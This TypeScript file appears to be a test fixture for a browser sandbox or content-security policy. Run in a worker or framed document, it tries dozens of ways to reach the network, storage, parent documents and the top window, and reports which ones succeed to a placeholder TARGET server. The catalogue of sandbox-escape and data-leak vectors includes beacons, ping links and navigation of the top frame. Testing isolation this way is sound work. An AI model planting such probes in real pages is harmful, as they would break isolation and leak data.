/**
 * A script with bad intentions, for a worker or a document: it tries all that might reach a server, a store or another
 * document, and tells its parent or its port which attempts the platform let it complete.
 */
declare const TARGET: string;

const SILENCE_MS = 2_000;

type Attempt = (url: (name: string) => string) => unknown;

const scope = globalThis as unknown as {
  readonly WebSocketStream: new (url: string) => { readonly opened: Promise<unknown> };
  readonly WebTransport: new (url: string) => { readonly ready: Promise<unknown> };
  readonly SharedWorker: new (url: string) => { readonly port: unknown };
  readonly RTCPeerConnection: new () => unknown;
  readonly cookieStore: { set(name: string, value: string): Promise<void> };
  readonly ranInline?: boolean;
  importScripts(url: string): void;
};

const NETWORK: Readonly<Record<string, Attempt>> = {
  fetch: (url) => fetch(url('fetch'), { mode: 'no-cors' }),
  'fetch keepalive': (url) => fetch(url('keepalive'), { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' }),
  XMLHttpRequest: (url) =>
    new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.open('GET', url('xhr'));
      request.onload = resolve;
      request.onerror = reject;
      request.send();
    }),
  'XMLHttpRequest, synchronous': (url) => {
    const request = new XMLHttpRequest();
    request.open('GET', url('xhr-sync'), false);
    request.send();
  },
  WebSocket: (url) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(url('socket').replace('http', 'ws'));
      socket.onopen = resolve;
      socket.onerror = reject;
    }),
  WebSocketStream: (url) => new scope.WebSocketStream(url('socket-stream').replace('http', 'ws')).opened,
  EventSource: (url) =>
    new Promise((resolve, reject) => {
      const source = new EventSource(url('events'));
      source.onopen = resolve;
      source.onerror = () => (source.close(), reject(new Error('refused')));
    }),
  WebTransport: (url) => new scope.WebTransport(url('transport').replace('http:', 'https:')).ready,
  importScripts: (url) => scope.importScripts(url('import-scripts.js')),
  'importScripts of a blob': () => scope.importScripts(URL.createObjectURL(new Blob(['0']))),
  'dynamic import': (url) => import(url('import.js')),
  'dynamic import of data': () => import('data:text/javascript,export default 1' + String()),
  eval: () => (Reflect.get(globalThis, 'eval') as (text: string) => unknown)('1'),
  FontFace: (url) => new FontFace('stolen', `url(${url('font')})`).load(),
  'worker from elsewhere': (url) => started(new Worker(url('worker.js'))),
  'worker of data': () => started(new Worker('data:text/javascript,postMessage(1)')),
  'nested worker that fetches': (url) => asked(new Worker(URL.createObjectURL(new Blob([`fetch(${JSON.stringify(url('nested'))}, { mode: 'no-cors' }).then(() => postMessage('reached'), () => postMessage('refused'))`])))),
  'nested worker that imports': (url) => asked(new Worker(URL.createObjectURL(new Blob([`try { importScripts(${JSON.stringify(url('nested-import.js'))}); postMessage('reached'); } catch { postMessage('refused'); }`])))),
  SharedWorker: (url) => new scope.SharedWorker(url('shared.js')).port ?? Promise.reject(),
  sendBeacon: (url) => {
    navigator.sendBeacon(url('beacon'), 'x'); // true as well where the policy forbids it
    throw new Error('the server tells');
  },
};

const STORES: Readonly<Record<string, Attempt>> = {
  indexedDB: () =>
    new Promise((resolve, reject) => {
      const request = indexedDB.open('stolen');
      request.onsuccess = resolve;
      request.onerror = reject;
    }),
  caches: () => caches.open('stolen'),
  localStorage: () => localStorage.setItem('stolen', '1'),
  sessionStorage: () => sessionStorage.setItem('stolen', '1'),
  cookies: () => {
    document.cookie = 'stolen=1';
    return document.cookie.includes('stolen') || Promise.reject(new Error('refused'));
  },
  cookieStore: () => scope.cookieStore.set('stolen', '1'),
  'private files': () => navigator.storage.getDirectory(),
  locks: () => navigator.locks.request('stolen', () => true),
  serviceWorker: (url) => navigator.serviceWorker.register(url('service.js')),
};

const channel: Attempt = () => {
  new BroadcastChannel('of the page').postMessage('stolen');
  throw new Error('the page tells');
};

/** No policy forbids the first to a document: the frame's own script, in whose place this one stands there, gives it up. */
const WORKER: Readonly<Record<string, Attempt>> = { WebRTC: () => new scope.RTCPeerConnection(), channel };

/** Only where there is a document. */
const DOCUMENT: Readonly<Record<string, Attempt>> = {
  'document of the page': () => parent.parent.document.title,
  'document between': () => parent.document.title,
  'document of the top': () => top!.document.title,
  'storage of the page': () => parent.parent.localStorage.length,
  'navigation of the top': (url) => (top!.location.href = url('top')),
  popup: (url) => open(url('popup')) ?? Promise.reject(new Error('refused')),
  form: (url) => inDocument(`<form action="${url('form')}" method="post"><input name="x" value="1"></form>`, () => document.querySelector('form')!.submit()),
  'form to a popup': (url) => inDocument(`<form action="${url('form-popup')}" target="_blank"></form>`, () => [...document.querySelectorAll('form')].at(-1)!.submit()),
  image: (url) => loaded(Object.assign(new Image(), { src: url('image') })),
  'inline frame': (url) => inDocument(`<iframe src="${url('frame')}"></iframe><object data="${url('object')}"></object><embed src="${url('embed')}">`),
  media: (url) => inDocument(`<video src="${url('video')}" autoplay></video><audio src="${url('audio')}"></audio><video poster="${url('poster')}"></video><track src="${url('track')}">`),
  styles: (url) => inDocument(`<style>@import url(${url('import.css')}); body { background: url(${url('background')}) }</style><p style="background: url(${url('inline')})">x</p><link rel="stylesheet" href="${url('sheet.css')}">`),
  'svg and icons': (url) => inDocument(`<svg><use href="${url('use.svg')}#x"/><image href="${url('svg-image')}"/></svg><link rel="icon" href="${url('icon')}"><link rel="manifest" href="${url('manifest')}">`),
  'script element': (url) => loaded(Object.assign(document.createElement('script'), { src: url('script.js') })),
  'inline script': () => {
    const script = document.createElement('script');
    script.textContent = 'globalThis.ranInline = true';
    document.head.append(script);
    return scope.ranInline === true || Promise.reject(new Error('refused'));
  },
  prefetch: (url) => inDocument(`<link rel="prefetch" href="${url('prefetch')}"><link rel="preload" as="fetch" href="${url('preload')}"><link rel="modulepreload" href="${url('modulepreload')}"><link rel="prerender" href="${url('prerender')}">`),
  preconnect: (url) => inDocument(`<link rel="preconnect" href="${url('preconnect')}"><link rel="preconnect" href="${url('preconnect')}" crossorigin><link rel="dns-prefetch" href="${url('dns')}">`),
  'speculation rules': (url) => {
    const rules = Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [url('speculation')] }] }) });
    document.head.append(rules);
    return Promise.reject(new Error('the server tells'));
  },
  channel,
};

const inWorker = typeof document === 'undefined';

function started(worker: Worker): Promise<unknown> {
  return new Promise((resolve, reject) => {
    worker.onmessage = resolve;
    worker.onerror = (event) => (event.preventDefault(), reject(new Error('refused')));
  });
}

async function asked(worker: Worker): Promise<unknown> {
  const { data } = (await started(worker)) as MessageEvent<string>;
  return data === 'reached' || Promise.reject(new Error('refused'));
}

function loaded(element: HTMLElement): Promise<unknown> {
  return new Promise((resolve, reject) => {
    element.onload = resolve;
    element.onerror = reject;
    document.body.append(element);
  });
}

/** What such an element does shows at the server. */
function inDocument(html: string, then: () => void = () => undefined): Promise<never> {
  document.body.insertAdjacentHTML('beforeend', html);
  then();
  return Promise.reject(new Error('the server tells'));
}

/** Some refusals come without a word; whether something arrived all the same, the server tells. */
function silence(): Promise<never> {
  return new Promise((_, reject) => setTimeout(() => reject(new Error('no answer')), SILENCE_MS));
}

async function attack(): Promise<{ readonly tried: number; readonly reached: readonly string[] }> {
  const reached: string[] = [];
  const attempts = Object.entries({ ...NETWORK, ...STORES, ...(inWorker ? WORKER : DOCUMENT) });
  for (const [name, attempt] of attempts) {
    try {
      await Promise.race([attempt((path) => `${TARGET}${inWorker ? 'worker' : 'document'}/${path}`), silence()]);
      reached.push(name);
    } catch {
      // A wall.
    }
  }
  return { tried: attempts.length, reached };
}

if (inWorker) {
  onmessage = async ({ ports: [port] }: MessageEvent) => {
    const told = await attack();
    if (port) port.postMessage(told);
    else postMessage(told);
  };
} else if (parent !== self) {
  // After the policy that follows this script in a sandbox frame.
  addEventListener('DOMContentLoaded', async () => {
    parent.parent.postMessage(null, '*');
    parent.parent.postMessage({ attacked: await attack() }, '*');
    // The last attempt, for it ends this script.
    document.body.insertAdjacentHTML('beforeend', `<a id="self" ping="${TARGET}document/ping" href="${TARGET}document/self?secret">x</a>`);
    document.getElementById('self')!.click();
  });
}
